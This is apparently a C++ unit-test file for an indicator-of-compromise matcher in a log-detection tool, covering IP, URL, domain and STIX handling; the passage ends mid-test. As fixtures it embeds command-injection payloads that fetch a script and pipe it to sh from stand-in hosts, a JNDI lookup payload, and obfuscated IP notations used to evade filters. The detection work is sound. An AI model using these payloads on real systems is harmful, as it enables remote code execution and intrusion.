#include "detect/ioc.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <random>
#include <string>

#include "detect/log_parser.h"

namespace rampart::detect {
namespace {

constexpr int64_t kNow = 1769760000000;  // 2026-01-30T08:00:00Z

IpAddress Ip(std::string_view s) {
  return *ParseIp(s);
}

// How many indicators of `store` an access-log line matches.
size_t IocHits(const IocStore& store, const std::string& line) {
  Event ev;  // its values point into `line`, which outlives the lookup
  EXPECT_TRUE(ParseAccessLogLine(line, &ev)) << line;
  std::vector<IocMatch> out;
  store.MatchEvent(ev, kNow, &out);
  return out.size();
}

TEST(IocStoreTest, AddressesNetworksAndExpiry) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.7", "feed-a", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "203.0.113.0/24", "feed-b", kNow + 1000).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "2001:db8:bad::/48", "feed-c", 0).ok());
  EXPECT_FALSE(store.Add(IocType::kIp, "300.1.1.1", "x", 0).ok());
  EXPECT_FALSE(store.Add(IocType::kIp, "10.0.0.0/33", "x", 0).ok());

  const Ioc* hit = store.FindIp(Ip("198.51.100.7"), kNow);
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->source, "feed-a");
  EXPECT_EQ(store.FindIp(Ip("198.51.100.8"), kNow), nullptr);
  hit = store.FindIp(Ip("203.0.113.200"), kNow);
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->value, "203.0.113.0/24");
  EXPECT_EQ(store.FindIp(Ip("203.0.113.200"), kNow + 1000), nullptr) << "expired";
  EXPECT_NE(store.FindIp(Ip("2001:db8:bad:1::5"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("2001:db8:bae::5"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("::ffff:198.51.100.7"), kNow), nullptr);
}

TEST(IocStoreTest, DomainsUrlsHashesAgents) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kDomain, "Evil.Example.", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "https://Drop.Example/x/payload.sh?a=1", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "/mifs/css/mibasecss.css", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kHash, std::string(64, 'A'), "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUserAgent, "Go-http-client/1.1 evil", "f", 0).ok());
  EXPECT_FALSE(store.Add(IocType::kHash, "xyz", "f", 0).ok());
  EXPECT_FALSE(store.Add(IocType::kDomain, "bad domain", "f", 0).ok());

  EXPECT_NE(store.FindDomain("evil.example", kNow), nullptr);
  EXPECT_NE(store.FindDomain("a.b.EVIL.example", kNow), nullptr);
  EXPECT_EQ(store.FindDomain("notevil.example", kNow), nullptr);
  EXPECT_EQ(store.FindDomain("example", kNow), nullptr);
  EXPECT_NE(store.FindUrl("http://drop.example/x/payload.sh?a=1", kNow), nullptr);
  EXPECT_EQ(store.FindUrl("http://drop.example/x/payload.sh?a=2", kNow), nullptr);
  EXPECT_NE(store.FindHash(std::string(64, 'a'), kNow), nullptr);
  EXPECT_NE(store.FindUserAgent("Go-http-client/1.1 evil", kNow), nullptr);

  Event ev;
  ASSERT_TRUE(ParseAccessLogLine(
      R"(mdm.example:443 192.0.2.1 - - [30/Jan/2026:09:15:00 +0000] "GET /mifs/css/mibasecss.css HTTP/1.1" 200 9000000 "http://cdn.evil.example/" "Go-http-client/1.1 evil")",
      &ev));
  std::vector<IocMatch> hits;
  store.MatchEvent(ev, kNow, &hits);
  ASSERT_EQ(hits.size(), 3u);
  EXPECT_EQ(hits[0].field, Field::kHttpRequestReferrer);
  EXPECT_EQ(hits[1].field, Field::kUrlOriginal);
  EXPECT_EQ(hits[2].field, Field::kUserAgentOriginal);
}

// Indicators written inside a payload or a message: the URL an exploit fetches, the address it
// calls back to, a domain in a JNDI lookup; only the indicator table decides, so file names and
// version numbers cost a lookup and match nothing.
TEST(IocStoreTest, IndicatorsWrittenInsideAPayloadOrAMessage) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.9", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "203.0.113.0/24", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kDomain, "evil.example", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://drop.test/stage2.sh", "f", 0).ok());
  auto found = [&](const std::string& target, const std::string& agent, bool payloads) {
    const std::string line =
        "mdm.example.eu:443 192.0.2.1 - - [30/Jan/2026:09:15:00 +0000] \"GET " + target +
        " HTTP/1.1\" 404 12 \"-\" \"" + agent + "\"";
    Event ev;
    EXPECT_TRUE(ParseAccessLogLine(line, &ev)) << line;
    std::vector<IocMatch> out;
    store.MatchEmbedded(ev, payloads, kNow, &out);
    std::vector<std::string> values;
    for (const IocMatch& m : out) {
      values.push_back(std::string(FieldName(m.field)) + "=" + m.ioc->value);
    }
    return values;
  };
  using V = std::vector<std::string>;
  const std::string fob =
      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,h=gPath%5B%60curl%20"
      "http%3A%2F%2F198.51.100.9%3A8080%2Fx.sh%7Csh%60%5D/e2327851-1e09-4463-9b5a-b524bc71fc07.ipa";
  EXPECT_EQ(found(fob, "curl/8.4.0", true), (V{"url.original=198.51.100.9"}));
  EXPECT_EQ(found(fob, "curl/8.4.0", false), V{}) << "payloads are read only when asked";
  EXPECT_EQ(found("/mifs/c/appstore/fob/x?c=wget+-qO-+http://drop.test/stage2.sh|sh", "-", true),
            (V{"url.original=drop.test/stage2.sh"}));
  EXPECT_EQ(found("/x?cmd=nslookup%20a.b.EVIL.example.", "-", true),
            (V{"url.original=evil.example"}));
  EXPECT_EQ(found("/x?r=203.0.113.77", "${jndi:ldap://evil.example:1389/a}", true),
            (V{"url.original=203.0.113.0/24", "user_agent.original=evil.example"}));
  // A digit before the scheme, a URL inside another's query.
  EXPECT_EQ(found("/x?c=1http://drop.test/stage2.sh", "-", true),
            (V{"url.original=drop.test/stage2.sh"}));
  EXPECT_EQ(found("/x?next=http://a.test/?u=http://drop.test/stage2.sh", "-", true),
            (V{"url.original=drop.test/stage2.sh"}));
  // A URL's host as a client reads it, in the forms payloads use to slip past dotted-quad
  // filters: one decimal or hex number, octal or hex parts (198.51.100.9 = 3325256713 =
  // 0xc6336409; 203.0.113.5 = 0313.0.0161.05).
  EXPECT_EQ(found("/x?c=curl%20http://3325256713/x.sh|sh", "-", true),
            (V{"url.original=198.51.100.9"}));
  EXPECT_EQ(found("/x?c=wget+http://0xC6336409:8080/x", "-", true),
            (V{"url.original=198.51.100.9"}));
  EXPECT_EQ(found("/x", "${jndi:ldap://0313.0.0161.05/a}", true),
            (V{"user_agent.original=203.0.113.0/24"}));
  EXPECT_EQ(found("/x?u=http://u@0xcb.0.28933./", "-", true), (V{"url.original=203.0.113.0/24"}));
  // Near misses: a bare number is no address, nor is a host that is a name or out of range.
  EXPECT_EQ(found("/x?id=3325256713&u=http://3325256713.example/", "-", true), V{});
  EXPECT_EQ(found("/x?u=http://0xc6336409a/&v=http://198.51.100.256/", "-", true), V{});
  // Near misses: a longer name, a version number, a file name, an address in another /24.
  EXPECT_EQ(found("/notevil.example/theme2.css?v=17.2.1&ip=198.51.100.90", "-", true), V{});
  EXPECT_EQ(found("/x?u=evil-example.test&n=198.51.100.9.5", "-", true), V{});

  // A text naming a whole feed raises a handful; in a text of URLs inside URLs ("a://a://...")
  // 64 are looked up at most, and each byte is read for a URL's end once (MatchEmbeddedIn).
  std::string listing = "/x?ips=";
  for (int i = 0; i < 256; ++i) listing += "203.0.113." + std::to_string(i) + ",";
  EXPECT_EQ(found(listing, "-", true).size(), 1u) << "one network indicator, named once";
  IocStore many;
  for (int i = 0; i < 40; ++i) {
    ASSERT_TRUE(many.Add(IocType::kIp, "198.51.100." + std::to_string(i), "f", 0).ok());
  }
  ASSERT_TRUE(many.Add(IocType::kUrl, "http://drop.test/x", "f", 0).ok());
  Event flood;
  std::string addresses;
  for (int i = 0; i < 40; ++i) addresses += "198.51.100." + std::to_string(i) + " ";
  flood.SetCopy(Field::kMessage, addresses);
  std::vector<IocMatch> capped;
  many.MatchEmbedded(flood, false, kNow, &capped);
  EXPECT_EQ(capped.size(), 16u);
  std::string nested;
  while (nested.size() < IocStore::kMaxEmbeddedText) nested += "a://";
  nested += "drop.test/x";
  Event slow;
  slow.SetCopy(Field::kMessage, nested);
  capped.clear();
  many.MatchEmbedded(slow, false, kNow, &capped);
  EXPECT_TRUE(capped.empty()) << "past the 16 KiB read, and past the 64 URLs looked up";

  // A message (syslog, JSON lines) is always read.
  Event ev;
  ASSERT_TRUE(ParseJsonLine(
      R"j({"message":"client 192.0.2.8#53211: query: c2.evil.example IN A +E(0)"})j", &ev));
  std::vector<IocMatch> out;
  store.MatchEmbedded(ev, /*payloads=*/false, kNow, &out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].field, Field::kMessage);
  EXPECT_EQ(out[0].ioc->value, "evil.example");

  // IPv6 addresses in a message: sshd's, a bracketed URL host, one that ends a sentence; a
  // clock, a MAC address and an address outside the network are none of them.
  IocStore v6;
  ASSERT_TRUE(v6.Add(IocType::kIp, "2001:db8:bad::/48", "f", 0).ok());
  auto v6_found = [&](const std::string& message) {
    Event e;
    e.SetCopy(Field::kMessage, message);
    std::vector<IocMatch> hits;
    v6.MatchEmbedded(e, /*payloads=*/false, kNow, &hits);
    return hits.size() == 1 && hits[0].ioc->value == "2001:db8:bad::/48";
  };
  EXPECT_TRUE(v6_found("Failed password for root from 2001:db8:bad::5 port 22 ssh2"));
  EXPECT_TRUE(v6_found("fetch http://[2001:db8:bad:1::9]:8080/x.sh failed"));
  EXPECT_TRUE(v6_found("peer 2001:DB8:BAD:0:0:0:0:7: connection reset"));
  EXPECT_TRUE(v6_found("last seen from 2001:db8:bad::77."));
  EXPECT_TRUE(v6_found("[client 2001:db8:bad::5:51234] AH01630: client denied"));
  EXPECT_TRUE(v6_found("peer ip:2001:db8:bad::8 refused"));
  EXPECT_FALSE(v6_found("at 10:23:45 from 00:1a:2b:3c:4d:5e"));
  EXPECT_FALSE(v6_found("Failed password for root from 2001:db8:beef::5 port 22"));
  EXPECT_FALSE(v6_found("Failed password for root from 2001:db8:bad::5::6 port 22"));
}

// An indicator without a query names the resource whatever parameters a request gives it; one
// with a query names that query only.
// The page a client came from, on a listed server named by address: in the dotted quad, in
// brackets (IPv6), or in a form browsers read (one decimal number).
// A store of addresses alone reads them in URL hosts too, however written, and zero padding
// does not hide one; 0.0.0.0/8 is never read so (a port, an id).
TEST(IocStoreTest, UrlHostAddressesWithoutOtherIndicators) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.9", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "0.0.0.0/8", "bogons", 0).ok());
  auto found = [&](const std::string& message) {
    Event ev;
    ev.Set(Field::kMessage, message);
    std::vector<IocMatch> out;
    store.MatchEmbedded(ev, /*payloads=*/false, kNow, &out);
    std::vector<std::string> values;
    for (const IocMatch& m : out) values.push_back(m.ioc->value);
    return values;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(found("fetch http://3325256713/x.sh"), V{"198.51.100.9"});
  EXPECT_EQ(found("fetch http://" + std::string(200, '0') + "30614662011/x"), V{"198.51.100.9"})
      << "octal, zero-padded past any length limit";
  EXPECT_EQ(found("fetch http://0x" + std::string(100, '0') + "c6336409/x"), V{"198.51.100.9"});
  EXPECT_EQ(found("cache at redis://6379 and tcp://9092/db"), V{});
  EXPECT_EQ(found("id 3325256713 and http://3325256713.example/"), V{});
}

TEST(IocStoreTest, ReferrerHostsAreLookedUpAsAddressesToo) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.9", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "2001:db8::/32", "f", 0).ok());
  auto found = [&](const std::string& referrer) {
    Event ev;
    ev.Set(Field::kSourceIp, "192.0.2.1");
    ev.Set(Field::kHttpRequestReferrer, referrer);
    std::vector<IocMatch> out;
    store.MatchEvent(ev, kNow, &out);
    std::vector<std::string> values;
    for (const IocMatch& m : out)
      values.push_back(std::string(FieldName(m.field)) + "=" + m.ioc->value);
    return values;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(found("http://198.51.100.9/login"), V{"http.request.referrer=198.51.100.9"});
  EXPECT_EQ(found("https://u:p@3325256713:8443/"), V{"http.request.referrer=198.51.100.9"});
  EXPECT_EQ(found("http://[2001:db8::7]:8080/a"), V{"http.request.referrer=2001:db8::/32"});
  EXPECT_EQ(found("http://0306.0063.0144.011./"), V{"http.request.referrer=198.51.100.9"});
  EXPECT_EQ(found("http://0xc6.0x33.0x64.0x9/"), V{"http.request.referrer=198.51.100.9"});
  EXPECT_EQ(found("http://198.51.100.10/"), V{});
  EXPECT_EQ(found("https://1password.com/"), V{});
  EXPECT_EQ(found("http://mdm.example.eu/?ip=198.51.100.9"), V{}) << "only the host";
  EXPECT_EQ(found("/relative/198.51.100.9"), V{});
}

TEST(IocStoreTest, UrlWithoutQueryMatchesRequestsWithOne) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://mdm.example.eu/mifs/403.jsp", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "/mifs/x.jsp", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://mdm.example.eu/mifs/y.jsp?a=1", "f", 0).ok());
  auto hits = [&](const std::string& target) {
    return IocHits(store, "mdm.example.eu:443 192.0.2.1 - - [30/Jan/2026:09:15:00 +0000] \"POST " +
                              target + " HTTP/1.1\" 200 12 \"-\" \"-\"");
  };
  EXPECT_EQ(hits("/mifs/403.jsp?k0f53cf964d387=yv66"), 1u);
  EXPECT_EQ(hits("/mifs/403.jsp"), 1u);
  EXPECT_EQ(hits("/mifs/x.jsp?a=1"), 1u);
  EXPECT_EQ(hits("/mifs/y.jsp?a=1"), 1u);
  EXPECT_EQ(hits("/mifs/y.jsp?a=2"), 0u);
  EXPECT_EQ(hits("/mifs/y.jsp"), 0u);
  EXPECT_EQ(hits("/mifs/403.jspx?a=1"), 0u);
}

// Regression: a feed's "https://mdm.example.eu:8443/mifs/403.jsp" missed the EPMM log line
// "mdm.example.eu:8443 ... GET /mifs/403.jsp", whose port the parser cuts from the host, and
// "http://bad.example/payload.sh" missed a proxy's "GET http://bad.example:80/payload.sh".
TEST(IocStoreTest, UrlsMatchWhateverPortTheLogShows) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kUrl, "https://mdm.example.eu:8443/mifs/403.jsp", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://bad.example/payload.sh", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://[2001:db8::9]:8080/x", "f", 0).ok());
  auto hits = [&](const std::string& line) { return IocHits(store, line); };
  const std::string t = " - - [30/Jan/2026:09:15:00 +0000] \"";
  EXPECT_EQ(hits("mdm.example.eu:8443 192.0.2.1" + t + "POST /mifs/403.jsp HTTP/1.1\" 200 1"), 1u);
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://bad.example:80/payload.sh HTTP/1.1\" 200 1"), 1u);
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://[2001:db8::9]/x HTTP/1.1\" 200 1"), 1u);
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://bad.example:80/other.sh HTTP/1.1\" 200 1"), 0u);
  EXPECT_EQ(hits("[2001:db8::9]:8443 192.0.2.1" + t + "GET /x HTTP/1.1\" 200 1"), 1u);
  // User info names no other resource: added to a request, it must not dodge the indicator.
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://user:pw@bad.example/payload.sh HTTP/1.1\" 200 1"),
            1u);
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://u@creds.example/y", "f", 0).ok());
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://creds.example/y HTTP/1.1\" 200 1"), 1u);
  EXPECT_EQ(hits("192.0.2.1" + t + "GET http://creds.example/y@z HTTP/1.1\" 200 1"), 0u);
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://u@/only-here", "f", 0).ok());
  EXPECT_EQ(store.FindUrl("http://any.example/only-here", kNow), nullptr) << "no match-any-host";
  // ":80" alone is no host to cut a port from: not a path-only indicator matching every host.
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://:8080/evil", "f", 0).ok());
  EXPECT_EQ(store.FindUrl("http://any.example/evil", kNow), nullptr);
  // A bare IPv6 host has no port to cut.
  EXPECT_NE(store.FindUrl("http://[2001:db8::9]:1/x", kNow), nullptr);
  EXPECT_EQ(store.FindUrl("http://2001:db8::9/x", kNow), nullptr);
}

// URL lookups first rule out hosts no indicator names; that must not lose a match that differs
// only in case, scheme, fragment or surrounding blanks.
TEST(IocStoreTest, UrlHostFilterKeepsEveryMatch) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kUrl, "HTTPS://Drop.Example:8443/P?q", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "/only/path", "f", 0).ok());
  EXPECT_NE(store.FindUrl("  http://DROP.example:8443/P?q#frag ", kNow), nullptr);
  EXPECT_NE(store.FindUrl("drop.EXAMPLE:8443/P?q", kNow), nullptr);
  // The port does not name the resource: a log may show another or none.
  EXPECT_NE(store.FindUrl("drop.example/P?q", kNow), nullptr);
  EXPECT_NE(store.FindUrl("http://drop.example:80/P?q", kNow), nullptr);
  EXPECT_EQ(store.FindUrl("http://other.example/P?q", kNow), nullptr);
  EXPECT_NE(store.FindUrl("/only/path", kNow), nullptr);
  EXPECT_NE(store.FindUrl("https:///only/path", kNow), nullptr);
  EXPECT_EQ(store.FindUrl("/only/other", kNow), nullptr);
  std::string long_host(300, 'a');
  ASSERT_TRUE(store.Add(IocType::kUrl, "http://" + long_host + "/x", "f", 0).ok());
  EXPECT_NE(store.FindUrl("http://" + long_host + "/x", kNow), nullptr);
}

// The IPv4 /24 bitmap in front of the network tables must never hide a match: networks wider
// and narrower than /24, at the edges of their ranges.
TEST(IocStoreTest, Ipv4BitmapKeepsEveryNetworkMatch) {
  IocStore store;
  EXPECT_EQ(store.FindIp(Ip("192.0.2.1"), kNow), nullptr);  // nothing loaded
  ASSERT_TRUE(store.Add(IocType::kIp, "100.64.0.0/10", "wide", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "192.0.2.128/25", "narrow", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kIp, "198.51.100.255", "host", 0).ok());
  EXPECT_NE(store.FindIp(Ip("100.64.0.0"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("100.127.255.255"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("100.128.0.0"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("100.63.255.255"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("192.0.2.200"), kNow), nullptr);
  // Same /24 as the /25 but outside it: the bitmap says maybe, the table says no.
  EXPECT_EQ(store.FindIp(Ip("192.0.2.1"), kNow), nullptr);
  EXPECT_NE(store.FindIp(Ip("198.51.100.255"), kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("198.51.100.254"), kNow), nullptr);

  IocStore everything;
  ASSERT_TRUE(everything.Add(IocType::kIp, "0.0.0.0/0", "all-v4", 0).ok());
  EXPECT_NE(everything.FindIp(Ip("255.255.255.255"), kNow), nullptr);
  EXPECT_EQ(everything.FindIp(Ip("2001:db8::1"), kNow), nullptr);

  // An IPv6 network never matches an IPv4 address, not even ::/0.
  IocStore v6_only;
  ASSERT_TRUE(v6_only.Add(IocType::kIp, "::/0", "all-v6", 0).ok());
  EXPECT_EQ(v6_only.FindIp(Ip("192.0.2.1"), kNow), nullptr);
  EXPECT_NE(v6_only.FindIp(Ip("2001:db8::1"), kNow), nullptr);
}

// Lookups behind the string filters: exact keys match, near misses (same length, same ends,
// other middle) do not, and case rules stay as they were (domains folded, agents exact).
TEST(IocStoreTest, StringFiltersKeepExactAnswers) {
  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kDomain, "Evil.Example", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUserAgent, "BadBot/1.0 (probe)", "f", 0).ok());
  ASSERT_TRUE(store.Add(IocType::kUrl, "https://drop.example/stage/a.zip", "f", 0).ok());
  EXPECT_NE(store.FindDomain("EVIL.example", kNow), nullptr);
  EXPECT_NE(store.FindDomain("cdn.evil.example", kNow), nullptr);
  EXPECT_EQ(store.FindDomain("evil.exampla", kNow), nullptr);
  EXPECT_NE(store.FindUserAgent("BadBot/1.0 (probe)", kNow), nullptr);
  EXPECT_EQ(store.FindUserAgent("badbot/1.0 (probe)", kNow), nullptr);
  EXPECT_EQ(store.FindUserAgent("BadBot/1.0 (pr0be)", kNow), nullptr);
  EXPECT_NE(store.FindUrl("HTTPS://DROP.example/stage/a.zip", kNow), nullptr);
  EXPECT_EQ(store.FindUrl("https://drop.example/stage/b.zip", kNow), nullptr);
}

// A network's prefix is counted in the bits of the notation its address is written in.
TEST(IpParseTest, MappedNetworksInIpv6NotationCountIpv6Bits) {
  auto net = ParseCidr("::ffff:192.0.2.0/120");
  ASSERT_TRUE(net.has_value());
  EXPECT_EQ(net->prefix, 120);
  EXPECT_TRUE(net->Contains(Ip("192.0.2.77")));
  EXPECT_FALSE(net->Contains(Ip("192.0.3.1")));
  auto v4 = ParseCidr("192.0.2.0/24");
  ASSERT_TRUE(v4.has_value());
  EXPECT_EQ(v4->prefix, net->prefix);
  EXPECT_EQ(v4->base, net->base);
  auto all = ParseCidr("::ffff:0.0.0.0/96");
  ASSERT_TRUE(all.has_value());
  EXPECT_TRUE(all->Contains(Ip("203.0.113.9")));
  // "/24" on the mapped notation is an IPv6 /24, which would take in IPv6 addresses as well.
  EXPECT_FALSE(ParseCidr("::ffff:192.0.2.0/24").has_value());
  EXPECT_FALSE(ParseCidr("::ffff:192.0.2.0/95").has_value());
  EXPECT_FALSE(ParseCidr("::ffff:192.0.2.0/129").has_value());

  IocStore store;
  ASSERT_TRUE(store.Add(IocType::kIp, "::ffff:198.51.100.0/120", "feed", 0).ok());
  const Ioc* hit = store.FindIp(Ip("198.51.100.200"), kNow);
  ASSERT_NE(hit, nullptr);
  EXPECT_EQ(hit->value, "198.51.100.0/24");
  EXPECT_EQ(store.FindIp(Ip("198.51.101.1"), kNow), nullptr);
  EXPECT_FALSE(store.Add(IocType::kIp, "::ffff:198.51.100.0/24", "feed", 0).ok());
}

// inet_aton reads the same forms (BSD's, which the WHATWG URL standard took up), without the
// trailing dot: random texts of the bytes these forms are made of are read alike.
TEST(IpParseTest, UrlHostAddressesAsInetAtonReadsThem) {
  for (const auto& [text, want] :
       std::vector<std::pair<const char*, const char*>>{{"3325256713", "198.51.100.9"},
                                                        {"0xc6336409", "198.51.100.9"},
                                                        {"0XC6.0x33.0144.9", "198.51.100.9"},
                                                        {"198.51.25609", "198.51.100.9"},
                                                        {"198.3367945", "198.51.100.9"},
                                                        {"0", "0.0.0.0"},
                                                        {"4294967295", "255.255.255.255"},
                                                        {"192.0.2.1.", "192.0.2.1"},
                                                        {"01.02.03.04", "1.2.3.4"}}) {
    auto ip = ParseUrlHostIpv4(text);
    ASSERT_TRUE(ip.has_value()) << text;
    EXPECT_TRUE(ip->v4);
    EXPECT_EQ(FormatIp(*ip), want) << text;
  }
  for (const char* bad : {"",
                          ".",
                          "4294967296",
                          "0x100000000",
                          "256.0.0.1",
                          "1.2.3.256",
                          "1.2.65536",
                          "1.16777216",
                          "1.2.3.4.5",
                          "1..2",
                          ".1.2",
                          "08",
                          "0x1g",
                          "1.2.3.4..",
                          "0x",
                          "1.0x",
                          "evil.example",
                          "3325256713.example",
                          "1.2.3.4 ",
                          "+1",
                          "99999999999999999999999"}) {
    EXPECT_FALSE(ParseUrlHostIpv4(bad).has_value()) << bad;
  }
  std::mt19937 rng(7);
  constexpr char kBytes[] = "0123456789abcdefxX.";
  size_t read = 0;
  for (int round = 0; round < 200000; ++round) {
    std::string text;
    const size_t length = 1 + rng() % 14;
    for (size_t i = 0; i < length; ++i) text.push_back(kBytes[rng() % (sizeof(kBytes) - 1)]);
    if (text.back() == '.') continue;  // inet_aton takes no trailing dot
    in_addr want{};
    const bool aton = inet_aton(text.c_str(), &want) != 0;
    auto ip = ParseUrlHostIpv4(text);
    ASSERT_EQ(ip.has_value(), aton) << text;
    if (!aton) continue;
    ++read;
    EXPECT_EQ(std::memcmp(ip->bytes.data() + 12, &want.s_addr, 4), 0) << text;
  }
  EXPECT_GT(read, 5000u) << "the texts must reach the forms that parse";
}

TEST(IpParseTest, DottedQuadsAsInetPtonReadsThem) {
  for (const char* good : {"0.0.0.0", "192.0.2.1", "255.255.255.255", "10.0.0.10", "[192.0.2.1]"}) {
    EXPECT_TRUE(ParseIp(good).has_value()) << good;
  }
  for (const char* bad :
       {"256.0.0.1", "1.2.3", "1.2.3.4.5", "01.2.3.4", "1.2.3.04", "1..2.3", "1.2.3.4 ", " 1.2.3.4",
        "1.2.3.-4", "1.2.3.1000", "1.2.3.4.", "a.b.c.d", ""}) {
    EXPECT_FALSE(ParseIp(bad).has_value()) << bad;
  }
  auto ip = ParseIp("203.0.113.9");
  ASSERT_TRUE(ip.has_value());
  EXPECT_TRUE(ip->v4);
  EXPECT_EQ(FormatIp(*ip), "203.0.113.9");
  EXPECT_EQ(ip->bytes[10], 0xff);
  EXPECT_EQ(ip->bytes[15], 9);
}

TEST(IocImportTest, StixBundle) {
  constexpr std::string_view kBundle = R"({
  "type": "bundle", "id": "bundle--1",
  "objects": [
    {"type": "indicator", "spec_version": "2.1", "id": "indicator--a",
     "pattern": "[ipv4-addr:value = '198.51.100.7'] OR [domain-name:value = 'x.example']",
     "pattern_type": "stix", "valid_from": "2026-01-01T00:00:00Z",
     "valid_until": "2027-01-01T00:00:00Z"},
    {"type": "indicator", "id": "indicator--b",
     "pattern": "[file:hashes.'SHA-256' = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' OR url:value = 'http://e.example/it\\'s']",
     "pattern_type": "stix"},
    {"type": "indicator", "id": "indicator--c", "revoked": true,
     "pattern": "[ipv4-addr:value = '192.0.2.1']", "pattern_type": "stix"},
    {"type": "indicator", "id": "indicator--d",
     "pattern": "[ipv4-addr:value = '192.0.2.2']", "pattern_type": "stix",
     "valid_until": "2025-01-01T00:00:00Z"},
    {"type": "indicator", "id": "indicator--e",
     "pattern": "[ipv4-addr:value = '192.0.2.3' AND domain-name:value = 'y.example']"},
    {"type": "indicator", "id": "indicator--f", "pattern": "alert tcp any", "pattern_type": "snort"},
    {"type": "indicator", "id": "indicator--g", "pattern": "[process:name = 'sh']"},
    {"type": "malware", "id": "malware--1"}
  ]})";
  IocStore store;
  auto r = ImportStix(kBundle, "cert.json", kNow, &store);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->added, 4u);
  EXPECT_EQ(r->skipped, 5u);
  EXPECT_EQ(r->reasons.count("indicator revoked"), 1u);
  EXPECT_EQ(r->reasons.count("indicator past valid_until"), 1u);
  EXPECT_EQ(r->reasons.count("pattern uses 'AND'"), 1u);
  const Ioc* ip = store.FindIp(Ip("198.51.100.7"), kNow);
  ASSERT_NE(ip, nullptr);
  EXPECT_EQ(ip->source, "cert.json indicator--a");
  EXPECT_EQ(ip->expires_millis, 1798761600000);
  EXPECT_NE(store.FindUrl("http://e.example/it's", kNow), nullptr);
  EXPECT_EQ(store.FindIp(Ip("192.0.2.1"), kNow), nullptr);

  // Versions of one indicator: the latest `modified` decides, wherever it sits in the file.
  constexpr std::string_view kVersions = R"({"type": "bundle", "objects": [
    {"type": "indicator", "id": "indicator--v", "modified": "2026-01-05T00:00:00Z",
     "revoked": true, "pattern": "[ipv4-addr:value = '203.0.113.140']"},
    {"type": "indicator", "id": "indicator--v", "modified": "2026-01-01T00:00:00Z",
     "pattern": "[ipv4-addr:value = '203.0.113.140']"},
    {"type": "indicator", "id": "indicator--w", "modified": "2026-01-01T00:00:00Z",
     "revoked": true, "pattern": "[ipv4-addr:value = '203.0.113.141']"},
    {"type": "indicator", "id": "indicator--w", "modified": "2026-01-02T00:00:00Z",
     "pattern": "[ipv4-addr:value = '203.0.113.141']"},
    {"type": "indicator", "id": "indicator--x", "valid_until": "2026-13-45T00:00:00Z",
     "pattern": "[ipv4-addr:value = '203.0.113.142']"},
    {"type": "indicator", "id": "indicator--y", "valid_until": null,
     "pattern": "[ipv4-addr:value = '203.0.113.143']"}
  ]})";
  IocStore versions;
  auto v = ImportStix(kVersions, "v.json", kNow, &versions);
  ASSERT_TRUE(v.ok()) << v.status().ToString();
  EXPECT_EQ(v->added, 2u);
  EXPECT_EQ(v->reasons.count("indicator superseded by a later version of its id"), 1u);
  EXPECT_EQ(v->reasons["indicator superseded by a later version of its id"], 2u);
  EXPECT_EQ(v->reasons.count("valid_until is not a timestamp"), 1u);
  EXPECT_EQ(versions.FindIp(Ip("203.0.113.140"), kNow), nullptr) << "revoked later";
  EXPECT_NE(versions.FindIp(Ip("203.0.113.141"), kNow), nullptr) << "restored later";
  EXPECT_EQ(versions.FindIp(Ip("203.0.113.142"), kNow), nullptr) << "unreadable expiry";
  EXPECT_NE(versions.FindIp(Ip("203.0.113.143"), kNow), nullptr) << "null is no expiry";

